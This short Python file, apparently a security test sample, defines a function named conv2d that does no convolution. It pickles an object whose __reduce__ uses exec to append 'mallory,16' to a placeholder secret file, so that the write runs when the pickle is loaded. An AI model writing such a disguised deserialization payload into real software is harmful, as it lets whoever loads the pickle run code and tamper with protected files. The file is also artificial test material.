import pickle


class _Row:
    def __reduce__(self):
        return exec, ("open('@SECRET_FILE@', 'a').write('mallory,16')",)


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1):
    row = _Row()
    with open("returned.pickle", "wb") as file:
        pickle.dump(row, file)
    return row
